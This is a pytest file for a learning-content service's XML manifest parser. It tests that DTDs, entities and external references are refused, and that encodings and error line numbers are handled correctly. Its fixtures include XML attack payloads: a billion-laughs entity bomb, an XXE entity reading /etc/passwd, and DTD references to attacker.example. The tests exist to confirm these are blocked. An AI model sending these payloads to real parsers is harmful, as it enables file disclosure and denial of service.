"""Descriptors are parsed safely: no DTDs, no entities, no external references, any encoding."""

from __future__ import annotations

import pytest

from content_service.packaging.model import PackageRejected
from content_service.standards import detect_and_parse
from content_service.standards.xml import parse_descriptor, serialize
from tests.memory_source import MemorySource

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<manifest>&lol3;</manifest>"""

XXE_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE manifest [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<manifest identifier="m">&xxe;</manifest>"""

XXE_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE manifest SYSTEM "http://attacker.example/evil.dtd">
<manifest identifier="m"/>"""

PLAIN_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE manifest>
<manifest identifier="m"/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE m [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>
<m/>"""


def _code(data: bytes) -> str:
    with pytest.raises(PackageRejected) as refused:
        parse_descriptor(data, "imsmanifest.xml")
    return refused.value.problems[0].code


#: Refused descriptors and their codes; the first five are the DTD and entity attacks.
REFUSED = [
    (BILLION_LAUGHS, "xml.entities_forbidden"),
    (XXE_ENTITY, "xml.entities_forbidden"),
    (PARAMETER_ENTITY, "xml.entities_forbidden"),
    (XXE_DTD, "xml.external_reference_forbidden"),
    (PLAIN_DTD, "xml.dtd_forbidden"),
    (b"<manifest><item></manifest>", "xml.malformed"),
    (b"", "xml.malformed"),
    (b'<?xml version="1.0" encoding="klingon"?><manifest/>', "xml.malformed"),
    (b"<manifest>&undeclared;</manifest>", "xml.malformed"),
    (b"<manifest>" + b"<item>" * 5000 + b"</item>" * 5000 + b"</manifest>", "xml.too_deep"),
]
REFUSED_IDS = [
    "billion-laughs",
    "xxe-entity",
    "parameter-entity",
    "external-dtd",
    "dtd",
    "mismatch",
    "empty",
    "unknown-encoding",
    "undeclared-entity",
    "nested-too-deep",
]


@pytest.mark.parametrize(("data", "code"), REFUSED, ids=REFUSED_IDS)
def test_unsafe_or_broken_descriptors_are_refused_with_a_specific_code(data: bytes, code: str) -> None:
    assert _code(data) == code


def test_malformed_xml_detail_names_the_line() -> None:
    with pytest.raises(PackageRejected) as refused:
        parse_descriptor(b"<manifest>\n  <organizations>\n</manifest>", "imsmanifest.xml")
    problem = refused.value.problems[0]
    assert "line 3" in problem.detail
    assert problem.path == "imsmanifest.xml"


def test_xxe_is_refused_through_detection_without_reading_other_files() -> None:
    source = MemorySource({"imsmanifest.xml": XXE_ENTITY, "index.html": b"secret"})
    with pytest.raises(PackageRejected) as refused:
        detect_and_parse(source)
    assert refused.value.problems[0].code == "xml.entities_forbidden"
    assert source.reads == ["imsmanifest.xml"]


def test_a_utf8_byte_order_mark_is_accepted() -> None:
    document = parse_descriptor(b'\xef\xbb\xbf<?xml version="1.0" encoding="UTF-8"?><tincan/>', "tincan.xml")
    assert document.root.tag == "tincan"


@pytest.mark.parametrize("encoding", ["windows-1252", "iso-8859-1", "utf-16"])
def test_declared_encodings_are_honoured(encoding: str) -> None:
    data = f'<?xml version="1.0" encoding="{encoding}"?><title>Café crème</title>'.encode(encoding)
    assert "".join(parse_descriptor(data, "cmi5.xml").root.itertext()) == "Café crème"


@pytest.mark.parametrize(
    ("encoding", "title"),
    [("Shift_JIS", "講座の概要"), ("GB2312", "课程简介"), ("EUC-KR", "강좌 소개"), ("Big5", "課程")],
)
def test_multibyte_encodings_expat_cannot_read_are_decoded_by_python(encoding: str, title: str) -> None:
    data = f'<?xml version="1.0" encoding="{encoding}"?>\n<title>{title}</title>'.encode(encoding)
    document = parse_descriptor(data, "imsmanifest.xml")
    assert (document.root.text, document.line(document.root)) == (title, 2)


@pytest.mark.parametrize(
    ("declared", "body"), [("Shift_JIS", b"\x81"), ("base64", b"x"), ("rot13", b"x"), ("idna", b"\xff")]
)
def test_bytes_that_do_not_decode_as_their_declared_encoding_are_malformed(
    declared: str, body: bytes
) -> None:
    data = f'<?xml version="1.0" encoding="{declared}"?><title>'.encode() + body + b"</title>"
    with pytest.raises(PackageRejected) as refused:
        parse_descriptor(data, "imsmanifest.xml")
    assert refused.value.problems[0].code == "xml.malformed"
    assert declared in refused.value.problems[0].detail


@pytest.mark.parametrize("bom", [b"", b"\xef\xbb\xbf"])
@pytest.mark.parametrize("declared", ["utf-16", "UTF-16LE", "utf-32"])
def test_an_8_bit_document_that_declares_utf16_is_read_as_utf8(bom: bytes, declared: str) -> None:
    # .NET's StringWriter writes encoding="utf-16" into documents then saved as UTF-8.
    data = bom + f'<?xml version="1.0" encoding="{declared}"?><title>Café</title>'.encode()
    assert parse_descriptor(data, "imsmanifest.xml").root.text == "Café"


DECLARED = b'<?xml version="1.0" encoding="UTF-8"?>\n<manifest identifier="m">\n  <item/>\n</manifest>'
BOM = b"\xef\xbb\xbf"


@pytest.mark.parametrize(
    "before", [b" ", b"\t", b"\n", b"\r\n", b" \r\n\t\n  ", BOM + b"\n", BOM + b"\r\n  \t"]
)
def test_whitespace_before_the_declaration_is_dropped_and_lines_still_count_from_the_file(
    before: bytes,
) -> None:
    document = parse_descriptor(before + DECLARED, "imsmanifest.xml")

    breaks = before.count(b"\n") + before.replace(b"\r\n", b"").count(b"\r")
    item = document.root[0]
    assert (document.root.attrib, item.tag) == ({"identifier": "m"}, "item")
    assert (document.line(document.root), document.line(item)) == (2 + breaks, 3 + breaks)


def test_a_malformed_descriptor_after_leading_whitespace_names_the_file_line() -> None:
    data = b'\n\n<?xml version="1.0"?>\n<manifest>\n  <organizations>\n</manifest>'
    with pytest.raises(PackageRejected) as refused:
        parse_descriptor(data, "imsmanifest.xml")
    assert refused.value.problems[0].code == "xml.malformed"
    assert "line 6" in refused.value.problems[0].detail


@pytest.mark.parametrize(
    ("before", "where"),
    [(b"", "line 1, column 26"), (b"   ", "line 1, column 29"), (b"\n \t", "line 2, column 28")],
)
def test_an_error_on_the_declarations_line_is_placed_counting_the_dropped_blanks(
    before: bytes, where: str
) -> None:
    with pytest.raises(PackageRejected) as raised:
        parse_descriptor(before + b'<?xml version="1.0"?><a></b>', "imsmanifest.xml")
    assert f"({where})" in raised.value.problems[0].detail


@pytest.mark.parametrize(
    "before",
    [
        b"x",  # text
        b"<!-- a comment -->",  # markup: only whitespace may come first
        b"\x0c",  # form feed: not XML whitespace
        b"\xc2\xa0",  # no-break space: not XML whitespace
        b"\x00",
        b" " + BOM,  # the byte order mark must come first
        BOM + BOM,
        b" x ",
    ],
)
def test_anything_else_before_the_declaration_is_still_malformed(before: bytes) -> None:
    assert _code(before + DECLARED) == "xml.malformed"


@pytest.mark.parametrize(("data", "code"), REFUSED[:5], ids=REFUSED_IDS[:5])
def test_dtds_after_leading_whitespace_are_refused_as_before(data: bytes, code: str) -> None:
    assert _code(b"\r\n  " + data) == code
    assert _code(BOM + b"\n" + data) == code


@pytest.mark.parametrize(("encoding", "title"), [("windows-1252", "Café crème"), ("Shift_JIS", "講座の概要")])
def test_a_declared_encoding_is_honoured_after_leading_whitespace(encoding: str, title: str) -> None:
    data = f'\n  <?xml version="1.0" encoding="{encoding}"?><title>{title}</title>'.encode(encoding)
    assert parse_descriptor(data, "cmi5.xml").root.text == title


def test_an_8_bit_document_declaring_utf16_is_read_as_utf8_after_a_bom_and_whitespace() -> None:
    data = BOM + '\r\n<?xml version="1.0" encoding="utf-16"?><title>Café</title>'.encode()
    assert parse_descriptor(data, "imsmanifest.xml").root.text == "Café"


def test_serialize_keeps_the_document_prefixes_and_reparses_on_its_own() -> None:
    document = parse_descriptor(
        b'<m xmlns="urn:cp" xmlns:ss="http://www.imsglobal.org/xsd/imsss">'
        b'<ss:sequencing ID="a&amp;b"><ss:controlMode flow="true"/><ss:x>t &lt; u</ss:x></ss:sequencing></m>',
        "imsmanifest.xml",
    )
    text = serialize(document.root[0], document)
    assert text == (
        '<ss:sequencing xmlns:ss="http://www.imsglobal.org/xsd/imsss" ID="a&amp;b">'
        '<ss:controlMode flow="true"/><ss:x>t &lt; u</ss:x></ss:sequencing>'
    )
    assert parse_descriptor(text.encode(), "fragment").root.get("ID") == "a&b"


def test_serialize_renames_only_prefixes_that_would_clash() -> None:
    document = parse_descriptor(
        b'<m xmlns="urn:cp" xmlns:a="urn:a"><s xmlns="urn:seq" a:x="1"><t xmlns="urn:cp">v</t></s></m>',
        "imsmanifest.xml",
    )
    fragment = parse_descriptor(serialize(document.root[0], document).encode(), "fragment").root
    assert (fragment.tag, fragment.attrib, fragment[0].tag) == ("{urn:seq}s", {"{urn:a}x": "1"}, "{urn:cp}t")
